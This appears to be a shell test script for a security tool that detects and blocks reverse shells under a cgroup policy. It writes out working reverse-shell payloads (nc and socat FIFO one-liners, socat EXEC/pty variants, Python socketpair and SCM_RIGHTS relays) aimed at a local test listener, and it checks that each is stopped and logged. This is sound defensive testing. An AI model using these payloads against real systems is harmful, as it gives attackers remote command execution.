# SPDX-License-Identifier: GPL-2.0-only
# A shell at the end of a connection that is not its own: through pipes, FIFOs,
# socket pairs and terminals, whatever came first.
# shellcheck shell=bash disable=SC2016,SC2034,SC2154

python=/usr/bin/python3
cg=$(cgroup free)

# The other end: answers a connection with a command, and says what came back.
cat >attacker.py <<'END'
import socket, sys, time
port, mode = int(sys.argv[1]), sys.argv[2]
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
if mode == "listen":
    s.bind(("127.0.0.1", port)); s.listen(4)
    print("ready", flush=True)
    s.settimeout(20)
    c = s.accept()[0]
else:
    for i in range(100):
        try:
            c = socket.create_connection(("127.0.0.1", port)); break
        except OSError:
            time.sleep(0.1)
    print("ready", flush=True)
c.settimeout(20)
data = b""
try:
    c.sendall(b"echo GOT$((40+2))\n")
    while b"GOT42" not in data:
        new = c.recv(4096)
        if not new:
            break
        data += new
except OSError:
    pass
print("owned" if b"GOT42" in data else "nothing", flush=True)
END

# attack COMMAND...: in the cgroup, against an attacker that listens
attack() {
	$python attacker.py 4320 listen >attacker.out 2>&1 &
	poll grep -q ready attacker.out
	timeout 30 /opt/csec/bin/cgexec "$cg" "$@" </dev/null >attack.out 2>&1 &
	local pid=$!
	poll grep -qE 'owned|nothing' attacker.out
	kill $pid 2>/dev/null
	echo 1 >"$cg/cgroup.kill" 2>/dev/null
	wait $pid 2>/dev/null
	cat attacker.out
}
bash_c() { attack /bin/bash -c "$1"; }

nc_fifo='rm -f f; mkfifo f; cat f | /bin/sh -i 2>&1 | nc 127.0.0.1 4320 >f'
socat_fifo='rm -f f; mkfifo f; /bin/sh <f 2>&1 | socat - TCP:127.0.0.1:4320 >f'
socat_exec='socat TCP:127.0.0.1:4320 EXEC:/bin/sh'
socat_pty='socat TCP:127.0.0.1:4320 EXEC:"bash -li",pty,stderr,setsid,sigint,sane'
socat_script='socat TCP:127.0.0.1:4320 EXEC:"script -qc /bin/sh /dev/null"'
cat >shell_first.py <<'END'
import os, select, socket, subprocess, sys, time
a, b = socket.socketpair()
p = subprocess.Popen(["/bin/sh"], stdin=b, stdout=b, stderr=b)
time.sleep(1)
s = socket.create_connection(("127.0.0.1", 4320))
while True:
    for f in select.select([s, a], [], [])[0]:
        d = f.recv(4096)
        if not d:
            sys.exit()
        (a if f is s else s).sendall(d)
END
cat >socket_later.py <<'END'
import os, socket, sys, time, array
a, b = socket.socketpair()
if not os.fork():
    m, anc, f, ad = b.recvmsg(1, 64)
    fd = array.array("i", anc[0][2])[0]
    for i in (0, 1, 2): os.dup2(fd, i)
    os.execv("/bin/sh", ["sh"])
s = socket.create_connection(("127.0.0.1", 4320))
a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [s.fileno()]))])
os.wait()
END
received='
import socket, subprocess
s = socket.create_connection(("127.0.0.1", 4320))
b = bytearray(4096)
while n := s.recv_into(b):
    s.sendall(subprocess.run(b[:n].decode(), shell=True, capture_output=True).stdout)'

names=(nc_fifo socat_fifo socat_exec socat_pty socat_script)
for name in "${names[@]}"; do
	contains "without a policy: $name" owned bash_c "${!name}"
done
for name in shell_first socket_later; do
	contains "without a policy: $name" owned attack $python $dir/$name.py
done
contains 'without a policy: received' owned attack $python -c "$received"

policy=relays
cg=$(cgroup deny)
govern relays "$cg" <<<'shells: {reverse: deny, bind: deny, connect: deny}' || fail 'a policy is pushed'
before=$(counter relays reverse_shell)
is_stopped() {
	lacks "$1: is stopped" owned "${@:2}"
	at_least "$1: is counted" $((before + 1)) "$(counter relays reverse_shell)"
	before=$(counter relays reverse_shell)
}
for name in "${names[@]}"; do
	is_stopped "$name" bash_c "${!name}"
done
is_stopped shell_first attack $python $dir/shell_first.py
equals 'the event has the peer' 4320 "$(field peer_port)"
equals 'the shell is its target' sh "$(field target_comm)"
equals 'and the link' unix "$(field link)"
is_stopped socket_later attack $python $dir/socket_later.py
is_stopped received attack $python -c "$received"
equals 'the receiver is named' python3 "$(field target_comm)"
